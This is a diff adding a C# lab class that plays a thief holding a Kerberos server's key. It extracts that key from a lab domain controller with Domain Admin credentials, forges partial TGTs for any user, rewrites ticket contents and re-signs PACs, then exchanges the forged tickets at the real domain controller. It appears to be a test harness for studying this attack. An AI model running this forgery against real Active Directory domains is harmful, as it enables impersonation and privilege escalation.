@@ -1,0 +1,103 @@
+using System.Net;
+using Keyway.ActiveDirectory.KerberosServers;
+using Keyway.ActiveDirectory.Ldap;
+using Keyway.ActiveDirectory.Locator;
+using Keyway.ActiveDirectory.Reading;
+using Keyway.Kerberos;
+using Keyway.Kerberos.Exchange;
+using Keyway.Kerberos.Messages;
+using Keyway.Kerberos.Pac;
+using Keyway.Kerberos.PartialTickets;
+
+namespace Keyway.Lab.Walk;
+
+/// <summary>A thief who has the Kerberos server's key: mints partial TGTs for anyone, past every rule of the identity server, and takes them to the domain controller.</summary>
+public sealed class StolenKey : IDisposable
+{
+    private readonly KdcEndpoint[] _kdcs;
+    private readonly KerberosKey _ticketKey;
+    private readonly DomainFacts _domain;
+    private readonly IReadOnlyDictionary<string, DirectoryUser> _users;
+
+    private StolenKey(KdcEndpoint[] kdcs, KerberosServerSecret secret, DomainFacts domain, IReadOnlyDictionary<string, DirectoryUser> users)
+    {
+        _kdcs = kdcs;
+        _ticketKey = secret.Key;
+        Key = new KerberosServerKey(secret.Id, secret.TicketKeyVersion, secret.Key.Value);
+        _domain = domain;
+        _users = users;
+    }
+
+    public KerberosServerKey Key { get; }
+
+    /// <summary>Reads key and people as a Domain Admin can.</summary>
+    public static async Task<StolenKey> StealAsync(Laboratory lab, CancellationToken cancellation)
+    {
+        var locator = new LocatorOptions
+        {
+            DnsServer = new IPEndPoint(IPAddress.Parse(lab.Record.DomainControllerAddress), 53),
+            Hosts = [$"{Domain.ControllerHost}={lab.Record.DomainControllerAddress}"],
+        };
+        var controller = (await new DomainControllerLocator().LocateAsync(Domain.DnsName, locator, cancellation)).Value[0];
+        var credential = new DomainCredential.Password(Domain.AdministratorUpn, lab.Record.DomainAdministratorPassword);
+        using var connection = (await DomainConnection.OpenAsync(controller, credential, TlsTrust.File(lab.Folder.DomainAuthority), null, cancellation)).Value;
+        var server = (await new KerberosServerObjects(connection, TimeProvider.System).ReadAsync(cancellationToken: cancellation)).Value;
+        var secret = (await new VampireKeytabSource(controller, credential, TimeProvider.System).ReadAsync(server, cancellation)).Value;
+
+        var reader = new DirectoryReader(connection);
+        var users = new Dictionary<string, DirectoryUser>(StringComparer.OrdinalIgnoreCase);
+        await foreach (var page in reader.ReadUsersAsync(cancellationToken: cancellation))
+        {
+            foreach (var user in page.Value)
+                users[user.SamAccountName] = user;
+        }
+
+        return new StolenKey(
+            [new KdcEndpoint(Domain.ControllerHost, controller.Address)],
+            secret,
+            (await reader.ReadDomainAsync(cancellation)).Value,
+            users);
+    }
+
+    /// <summary>Mints a partial TGT for anyone.</summary>
+    public HeldTicket Mint(string user)
+    {
+        var person = _users[user];
+        var clientKey = System.Security.Cryptography.RandomNumberGenerator.GetBytes(32);
+        var request = new PartialTicketRequest(_domain.DnsName, _domain.NetBiosName, person.SamAccountName, person.DisplayName ?? string.Empty,
+            person.UserPrincipalName ?? string.Empty, person.Sid);
+        using var ticket = new PartialTicketMinter(TimeProvider.System).Mint(Key, request, clientKey).Value;
+        return PartialTicket.Open(ticket.AsRep, clientKey).Value;
+    }
+
+    /// <summary>Rewrites what stands in the ticket and seals it again with the stolen key.</summary>
+    public HeldTicket Rewrite(HeldTicket ticket, Func<EncTicketPart, EncTicketPart> change)
+    {
+        var sealedPart = ticket.Ticket.EncryptedPart;
+        var part = EncTicketPart.Parse(_ticketKey.Decrypt(KeyUsage.Ticket, sealedPart.Cipher).Value).Value;
+        var cipher = _ticketKey.Encrypt(KeyUsage.Ticket, change(part).Encode());
+        return ticket with { Ticket = ticket.Ticket with { EncryptedPart = sealedPart with { Cipher = cipher } } };
+    }
+
+    /// <summary>The SID of anyone.</summary>
+    public SecurityIdentifier SidOf(string user) => _users[user].Sid;
+
+    /// <summary>Changes the PAC's buffers and signs it again with the stolen key.</summary>
+    public EncTicketPart WithPac(EncTicketPart part, Func<IEnumerable<PacBuffer>, IEnumerable<PacBuffer>> change)
+    {
+        var pac = PrivilegeAttributeCertificate.Parse(AuthorizationDataElement.FindPac(part.AuthorizationData).Value).Value;
+        var buffers = pac.Buffers.Where(buffer => buffer.Type is not (PacBufferType.ServerChecksum or PacBufferType.KdcChecksum));
+        var rebuilt = PrivilegeAttributeCertificate.Build([.. change(buffers)], _ticketKey, _ticketKey, (ushort)Key.BranchId);
+        return part with { AuthorizationData = [AuthorizationDataElement.ForPac(rebuilt)] };
+    }
+
+    /// <summary>Step 6, Exchange, at the real domain controller.</summary>
+    public Task<Errors.Result<FullTicket>> ExchangeAsync(HeldTicket ticket, CancellationToken cancellation) =>
+        new FullTicketExchange(new KdcTransport(), TimeProvider.System).ExchangeAsync(ticket, _kdcs, new FullTicketOptions(), cancellation);
+
+    public void Dispose()
+    {
+        Key.Dispose();
+        _ticketKey.Dispose();
+    }
+}
